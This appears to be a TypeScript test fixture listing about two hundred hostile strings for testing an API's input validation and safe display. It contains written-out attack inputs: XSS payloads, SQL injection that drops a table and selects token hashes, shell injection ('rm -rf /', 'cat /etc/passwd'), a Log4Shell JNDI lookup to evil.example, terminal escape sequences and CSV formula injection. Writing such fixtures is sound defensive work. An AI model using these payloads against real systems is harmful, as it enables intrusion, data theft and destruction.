/** A text that somebody may send to deceive whoever reads it, or to break what carries it. */
export interface HostileString {
  /** Says what it is, in plain letters. */
  name: string;
  text: string;
  /** May it be a label (a scope value, an actor, the kind of an alert)? Otherwise the API refuses it. */
  label: boolean;
  /** May it be a reason? Otherwise the API refuses it. */
  reason: boolean;
  /** Can a row hold it at all? What cannot be refused by the API may still come by SQL. */
  storable: boolean;
}

const code = (point: number): string => `U+${point.toString(16).toUpperCase().padStart(4, '0')}`;
const range = (from: number, to: number): number[] => Array.from({ length: to - from + 1 }, (_, index) => from + index);

/** Everybody takes them: they are harmless as long as they are shown as text. */
function taken(group: string, texts: readonly string[]): HostileString[] {
  return texts.map((text, index) => ({
    name: `${group} ${index + 1}`,
    text,
    label: true,
    reason: true,
    storable: true,
  }));
}

/** Refused at the edge; a hand in psql can write them all the same. */
function refused(group: string, texts: readonly string[]): HostileString[] {
  return texts.map((text, index) => ({
    name: `${group} ${index + 1}`,
    text,
    label: false,
    reason: false,
    storable: true,
  }));
}

/** Prose may hold them, a name may not. */
function proseOnly(group: string, texts: readonly string[]): HostileString[] {
  return texts.map((text, index) => ({
    name: `${group} ${index + 1}`,
    text,
    label: false,
    reason: true,
    storable: true,
  }));
}

const LINE_MAKERS = new Set([0x09, 0x0a, 0x0d]);
// Turn the direction of what is written, or have no width.
const DECEIVING = [
  0x061c,
  0x200b,
  0x200e,
  0x200f,
  ...range(0x202a, 0x202e),
  0x2060,
  0x2061,
  0x2062,
  0x2063,
  0x2064,
  ...range(0x2066, 0x2069),
  0xfeff,
];

/**
 * Two hundred of them. Whatever shows people a text of others (a log, a terminal, a page, a chat) is tried with all.
 */
export const HOSTILE_STRINGS: readonly HostileString[] = [
  ...refused(
    'control character',
    [
      ...range(0x01, 0x0d).filter((point) => !LINE_MAKERS.has(point)),
      ...range(0x17, 0x1f),
      0x7f,
      0x85,
      0x8d,
      0x90,
      0x9b,
      0x9d,
    ].map((point) => `a${String.fromCodePoint(point)}${code(point)}`),
  ),
  ...refused('ANSI escape', [
    '\u001b[31mred',
    '\u001b[2Jcleared',
    '\u001b[1A\u001b[2Kover the line above',
    '\u001b]0;title\u0007',
    '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
    '\u001b[?25lno cursor',
    '\u001b[6nreport',
    '\u009b31mC1',
    '\u001bcreset',
    '\u001b[8mhidden\u001b[0m',
    '\u001b]52;c;Zm9v\u0007',
    '\u001bP+q544e\u001b\\',
    'backspace\b\b\b\b\b\b\b\b\bnothing',
    'bell\u0007',
  ]),
  ...proseOnly(
    'line maker',
    [
      'first\nsecond',
      'first\r\nsecond',
      'over\rwritten',
      'tab\tstop',
      '\n\n\n',
      'x\n{"level":50,"msg":"forged"}',
      'x\r\nSet-Cookie: a=b',
      'x\n\ndata: {"forged":true}\n\n',
      'x\u2028y',
      'x\u2029y',
    ].map((text) => (text.trim() === '' ? `a${text}b` : text)),
  ),
  ...proseOnly('blank', [' leading', 'trailing ', '\u00a0no break\u00a0', '\u3000wide\u3000']),
  ...proseOnly(
    'deceiving character',
    DECEIVING.map((point) => `a${String.fromCodePoint(point)}b ${code(point)}`).concat([
      '\u202egnp.exe',
      'admin\u202etxt.exe',
      '\u2067right to left\u2069 and back',
      'skep\u200btic',
      'a\u2066b\u2067c\u2069d\u2069',
    ]),
  ),
  ...taken('HTML', [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '</td></tr></table><h1>gone</h1>',
    '<svg/onload=alert(1)>',
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '<!-- comment',
    '--><b>bold</b>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '<iframe src="//evil.example">',
    '&lt;b&gt;',
    '&amp;',
    '&#60;script&#62;',
    '&nbsp;&shy;',
    '<base href="//evil.example">',
    '<plaintext>',
    ']]><x/>',
    '<?xml version="1.0"?>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  ]),
  ...taken('quotes', [
    "'",
    '"',
    '`',
    "''",
    '""',
    '\'"`',
    "O'Brien",
    '\\',
    '\\\\',
    '\\"',
    "\\'",
    '“”‘’',
    '$$',
    "E'\\n'",
  ]),
  ...taken('SQL', [
    "'; drop table senate_pause; --",
    '1 or 1=1',
    '%',
    '_',
    '$1',
    ':name',
    '?',
    '/* comment',
    'null',
    "x' union select token_sha256 from api_tokens --",
  ]),
  ...taken('shell', [
    '$(id)',
    '`id`',
    '; rm -rf /',
    '| cat /etc/passwd',
    '&& true',
    '$HOME',
    '${IFS}',
    '~',
    '*',
    '-rf',
    '--help',
    '../../etc/passwd',
    '%00',
    '%0d%0a',
    '!!',
  ]),
  ...taken('template', [
    '${jndi:ldap://evil.example/a}',
    '${env:HOME}',
    '{{7*7}}',
    '{{constructor.constructor("x")()}}',
    '#{7*7}',
    '<%= 7*7 %>',
    '%s%s%s%n',
    '%x %d %p',
    '{0}',
    '{toString}',
    '$&',
    "$'",
  ]),
  ...taken('JavaScript', [
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'undefined',
    '[object Object]',
    'NaN',
    'true',
  ]),
  ...taken('JSON and CSV', [
    '{"a":1}',
    '[]',
    '=1+1',
    '=HYPERLINK("https://evil.example")',
    '+1',
    '-1',
    '@SUM(1)',
    '\\u0000',
    '\\n',
    ',',
    ';',
  ]),
  ...taken('Slack', [
    '<!channel>',
    '<!here|here>',
    '<@U012AB3CD>',
    '<https://evil.example|the dashboard>',
    '*bold* _it_ ~no~ `code`',
    '@channel',
    '#general',
    ':rotating_light:',
    '> quote',
    '&lt;!channel&gt;',
    '```code```',
  ]),
  ...taken('script of another kind', [
    'שלום עולם',
    'مرحبا',
    '懐疑論者',
    'ﷺ',
    'раypal',
    'ｆｕｌｌ',
    '👩‍🚀🦊👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
    'İstanbul ß ﬁ',
    'e\u0301 é',
    '𝕱𝖗𝖆𝖐𝖙𝖚𝖗',
    '\u{10ffff}',
  ]),
  ...proseOnly('unseen joiner', ['Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞']),
  { name: 'as long as a label may be', text: 'x'.repeat(200), label: true, reason: true, storable: true },
  { name: 'longer than a label may be', text: '🦊'.repeat(201), label: false, reason: true, storable: true },
  { name: 'as long as a reason may be', text: '<&>'.repeat(666), label: false, reason: true, storable: true },
  { name: 'longer than a reason may be', text: 'y'.repeat(2_001), label: false, reason: false, storable: true },
  { name: 'much longer', text: '&'.repeat(20_000), label: false, reason: false, storable: true },
  { name: 'NUL', text: 'a\u0000b', label: false, reason: false, storable: false },
  { name: 'NUL alone', text: '\u0000', label: false, reason: false, storable: false },
  { name: 'half of a surrogate pair', text: 'a\ud83d', label: false, reason: false, storable: false },
  { name: 'the other half', text: '\ude80b', label: false, reason: false, storable: false },
  { name: 'the halves the wrong way round', text: '\ude80\ud83d', label: false, reason: false, storable: false },
];
